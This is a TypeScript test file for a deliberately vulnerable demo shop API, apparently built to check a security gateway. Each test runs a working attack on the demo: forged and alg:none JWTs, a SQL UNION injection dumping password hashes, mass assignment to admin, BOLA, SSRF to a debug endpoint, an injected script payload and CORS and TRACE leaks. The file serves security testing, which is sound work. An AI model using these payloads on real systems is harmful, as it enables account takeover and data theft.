// Every vulnerability of VULNERABILITIES.md, exploited directly against the demo (the gateway
// tests flip these to "blocked"), plus normal use so the API is known to work.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { createHash } from 'node:crypto';
import { SignJWT } from 'jose';
import { startDemo, DEMO_JWT_SECRET, DEMO_USERS, FLASH_SALE_STOCK, DEMO_OPENAPI_PATH, DEMO_CONFIG_PATH } from './index.js';
import type { RunningDemo } from './index.js';
import { existsSync, readFileSync } from 'node:fs';

let demo: RunningDemo;
let partner: http.Server;
let partnerUrl = '';

before(async () => {
  partner = http.createServer((req, res) => {
    // A compromised partner: negative price, script in the note, an extra field.
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ carrier: 'Evil Express', price: -40, note: '<script>alert(1)</script>', adminOverride: true }));
  });
  await new Promise<void>((r) => partner.listen(0, '127.0.0.1', () => r()));
  partnerUrl = `http://127.0.0.1:${(partner.address() as AddressInfo).port}`;
  demo = await startDemo({ port: 0, partnerUrl, quiet: true });
});
after(async () => {
  await demo.close();
  await new Promise<void>((r) => partner.close(() => r()));
});

// Tests read fields of many response shapes; `any` keeps them short and the assertions check the shape.
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

async function call(method: string, path: string, opts: { token?: string; body?: unknown; headers?: Record<string, string> } = {}): Promise<{ status: number; headers: Headers; text: string; json: () => Json }> {
  const headers: Record<string, string> = { ...(opts.headers ?? {}) };
  if (opts.token) headers.authorization = `Bearer ${opts.token}`;
  if (opts.body !== undefined) headers['content-type'] = 'application/json';
  const r = await fetch(demo.url + path, { method, headers, ...(opts.body !== undefined ? { body: JSON.stringify(opts.body) } : {}) });
  const text = await r.text();
  return { status: r.status, headers: r.headers, text, json: () => JSON.parse(text) as Json };
}

async function login(email: string, password: string): Promise<string> {
  const r = await call('POST', '/api/v2/auth/login', { body: { email, password } });
  assert.equal(r.status, 200, r.text);
  return r.json().token as string;
}

const alice = () => login('alice@acme.test', 'alice-pass-1');

describe('normal use', () => {
  test('health, login, profile, catalogue paging, ordering', async () => {
    assert.deepEqual((await call('GET', '/api/health')).json(), { status: 'ok' });
    const token = await alice();
    const me = (await call('GET', '/api/v2/users/me', { token })).json();
    assert.equal(me.email, 'alice@acme.test');
    const page1 = (await call('GET', '/api/v2/products?page=1&limit=10')).json();
    const page2 = (await call('GET', '/api/v2/products?page=2&limit=10')).json();
    assert.equal(page1.items.length, 10);
    assert.equal(page2.items[0].id, 11);
    assert.equal(page1.total, 2000);
    const created = await call('POST', '/api/v2/orders', { token, body: { productId: 42, quantity: 2 } });
    assert.equal(created.status, 201);
    assert.equal(created.json().user_id, 1);
    const mine = (await call('GET', '/api/v2/orders', { token })).json();
    assert.ok(mine.items.every((o: { user_id: number }) => o.user_id === 1));
    assert.equal((await call('GET', '/api/v2/orders')).status, 401);
    assert.equal((await call('GET', '/api/v2/products/999999')).status, 404);
    assert.equal((await call('DELETE', '/api/health')).status, 405);
    assert.equal((await call('GET', '/nope')).status, 404);
    const quote = await call('GET', '/api/v2/orders/1001/shipping-quote', { token });
    assert.equal(quote.status, 200);
  });

  test('the OpenAPI document and the demo configuration ship with the package', () => {
    assert.ok(existsSync(DEMO_OPENAPI_PATH));
    assert.match(readFileSync(DEMO_OPENAPI_PATH, 'utf8'), /^openapi: 3\.1\.0/m);
    assert.doesNotMatch(readFileSync(DEMO_OPENAPI_PATH, 'utf8'), /\/api\/v1|\/debug/, 'the shadow endpoints are undocumented on purpose');
    assert.ok(existsSync(DEMO_CONFIG_PATH));
  });
});

describe('vulnerabilities, exploited directly', () => {
  test('DEMO-API1-01/02: BOLA — Alice reads and changes Bob\'s order', async () => {
    const token = await alice();
    const read = await call('GET', '/api/v2/orders/1003', { token });
    assert.equal(read.status, 200);
    assert.equal(read.json().user_id, 2);
    const write = await call('PATCH', '/api/v2/orders/1003', { token, body: { shippingAddress: 'Alice, 1 Elm St' } });
    assert.equal(write.json().shipping_address, 'Alice, 1 Elm St');
  });

  test('DEMO-API2-01: a token forged with the word-list secret is accepted as admin', async () => {
    const forged = await new SignJWT({ role: 'admin', email: 'admin@acme.test' })
      .setProtectedHeader({ alg: 'HS256' })
      .setSubject('10')
      .setIssuer('acme-shop')
      .setExpirationTime('1h')
      .sign(new TextEncoder().encode(DEMO_JWT_SECRET));
    const me = await call('GET', '/api/v2/users/me', { token: forged });
    assert.equal(me.json().role, 'admin');
    assert.equal(DEMO_JWT_SECRET, 'changeme');
  });

  test('DEMO-API2-02: an unsigned alg:none token and an expired token are accepted by the legacy check', async () => {
    const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
    const none = `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: '2', role: 'customer', email: 'bob@acme.test' })}.`;
    const r = await call('GET', '/api/v1/account', { token: none });
    assert.equal(r.status, 200);
    assert.equal(r.json().email, 'bob@acme.test');
    const expired = await new SignJWT({ role: 'customer', email: 'alice@acme.test' })
      .setProtectedHeader({ alg: 'HS256' })
      .setSubject('1')
      .setIssuer('acme-shop')
      .setExpirationTime(Math.floor(Date.now() / 1000) - 3600)
      .sign(new TextEncoder().encode(DEMO_JWT_SECRET));
    assert.equal((await call('GET', '/api/v2/orders/1001/invoice', { token: expired })).status, 200);
    assert.equal((await call('GET', '/api/v2/users/me', { token: expired })).status, 401, 'the v2 check does verify expiry');
  });

  test('DEMO-API2-03: login answers differ for unknown accounts and wrong passwords', async () => {
    const unknown = await call('POST', '/api/v2/auth/login', { body: { email: 'nobody@acme.test', password: 'x' } });
    const wrong = await call('POST', '/api/v2/auth/login', { body: { email: 'alice@acme.test', password: 'x' } });
    assert.notEqual(unknown.status, wrong.status);
    assert.notEqual(unknown.text, wrong.text);
  });

  test('DEMO-API2-04 + DEMO-API3-01: the profile exposes an unsalted SHA-256 password hash and internal notes', async () => {
    const me = (await call('GET', '/api/v2/users/me', { token: await alice() })).json();
    assert.equal(me.password_hash, createHash('sha256').update('alice-pass-1').digest('hex'));
    assert.ok(me.internal_notes);
  });

  test('DEMO-API3-02: mass assignment of role and balance', async () => {
    const token = await login('carol@acme.test', 'carol-pass-3');
    const r = await call('PATCH', '/api/v2/users/me', { token, body: { role: 'admin', balance: 1000000 } });
    assert.equal(r.json().role, 'admin');
    assert.equal(r.json().balance, 1000000);
  });

  test('DEMO-API3-03: anyone looks up a full profile by e-mail; unknown e-mails are told apart', async () => {
    const r = await call('GET', '/api/v2/users/lookup?email=bob@acme.test');
    assert.equal(r.status, 200);
    assert.equal(r.json().phone, DEMO_USERS[1]!.phone);
    assert.equal((await call('GET', '/api/v2/users/lookup?email=nobody@acme.test')).status, 404);
  });

  test('DEMO-API4-01: the page size is unbounded', async () => {
    const r = (await call('GET', '/api/v2/products?limit=1000000')).json();
    assert.equal(r.items.length, 2000);
  });

  test('DEMO-API4-02: unlimited failed logins, never a 429', async () => {
    const statuses = new Set<number>();
    for (let i = 0; i < 50; i++) statuses.add((await call('POST', '/api/v2/auth/login', { body: { email: 'alice@acme.test', password: `guess${i}` } })).status);
    assert.deepEqual([...statuses], [401]);
  });

  test('DEMO-API4-03: a 20 MB body is read whole', async () => {
    const r = await fetch(`${demo.url}/api/v2/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '"' + 'a'.repeat(20 * 1024 * 1024) + '"' });
    assert.equal(r.status, 400, 'read to the end, then refused only because it is not an object');
  });

  test('DEMO-API5-01/02: a customer lists and deletes accounts in the admin area', async () => {
    const token = await alice();
    const list = await call('GET', '/api/v2/admin/users', { token });
    assert.equal(list.status, 200);
    assert.ok(list.json().items.length >= 4);
    const del = await call('DELETE', '/api/v2/admin/users/999', { token });
    assert.equal(del.status, 404, 'reached the handler: only a missing account stops it');
  });

  test('DEMO-API6-01: one customer buys the whole "one per customer" flash-sale stock', async () => {
    const token = await login('bob@acme.test', 'bob-pass-2');
    for (let i = 0; i < FLASH_SALE_STOCK; i++) assert.equal((await call('POST', '/api/v2/orders', { token, body: { productId: 1 } })).status, 201);
    assert.equal((await call('POST', '/api/v2/orders', { token, body: { productId: 1 } })).status, 409);
  });

  test('DEMO-API6-02: the one-time coupon is redeemed again and again', async () => {
    const token = await alice();
    const before = (await call('GET', '/api/v2/users/me', { token })).json().balance as number;
    for (let i = 0; i < 5; i++) assert.equal((await call('POST', '/api/v2/coupons/redeem', { token, body: { code: 'WELCOME10' } })).status, 200);
    assert.equal((await call('GET', '/api/v2/users/me', { token })).json().balance, before + 50);
  });

  test('DEMO-API7-01: SSRF — the avatar import reads an internal endpoint', async () => {
    const r = await call('POST', '/api/v2/users/me/avatar', { token: await alice(), body: { url: `${demo.url}/debug/config` } });
    assert.equal(r.status, 200);
    assert.match(r.json().preview, /changeme/);
  });

  test('DEMO-API8-01 + DEMO-INJ-01: SQL injection; the error leaks SQL and a stack trace', async () => {
    const broken = await call('GET', `/api/v2/products/search?q=${encodeURIComponent("'")}`);
    assert.equal(broken.status, 500);
    assert.match(broken.text, /SqliteError|syntax error/);
    assert.match(broken.text, /\n\s+at /);
    const union = await call('GET', `/api/v2/products/search?q=${encodeURIComponent("%' UNION SELECT id, email, password_hash, role FROM users--")}`);
    assert.equal(union.status, 200);
    assert.ok(union.json().items.some((i: { name: string }) => i.name === 'alice@acme.test'));
  });

  test('DEMO-API8-02/03/04: Server and X-Powered-By, reflected CORS with credentials, TRACE echo', async () => {
    const r = await call('GET', '/api/health', { headers: { origin: 'https://evil.example' } });
    assert.match(r.headers.get('x-powered-by') ?? '', /AcmeShop/);
    assert.match(r.headers.get('server') ?? '', /acme-shop/);
    assert.equal(r.headers.get('access-control-allow-origin'), 'https://evil.example');
    assert.equal(r.headers.get('access-control-allow-credentials'), 'true');
    const trace = await new Promise<string>((resolve, reject) => {
      const u = new URL(demo.url);
      const req = http.request({ host: u.hostname, port: u.port, path: '/api/health', method: 'TRACE', headers: { authorization: 'Bearer secret-token' } }, (res) => {
        let b = '';
        res.on('data', (c: Buffer) => (b += c.toString()));
        res.on('end', () => resolve(b));
      });
      req.on('error', reject);
      req.end();
    });
    assert.match(trace, /secret-token/);
  });

  test('DEMO-API9-01/02: the retired v1 API and a debug endpoint still answer, unauthenticated', async () => {
    const v1 = await call('GET', '/api/v1/users/2');
    assert.equal(v1.status, 200);
    assert.ok(v1.json().password_hash);
    const dbg = await call('GET', '/debug/config');
    assert.equal(dbg.json().jwtSecret, 'changeme');
  });

  test('DEMO-API10-01: the partner\'s answer is trusted — negative price and script stored', async () => {
    const token = await login('carol@acme.test', 'carol-pass-3');
    const r = await call('GET', '/api/v2/orders/1004/shipping-quote', { token });
    assert.equal(r.status, 200);
    const q = r.json();
    assert.equal(q.newTotal, 50);
    assert.equal(q.note, '<script>alert(1)</script>');
    assert.equal(q.adminOverride, true);
  });
});
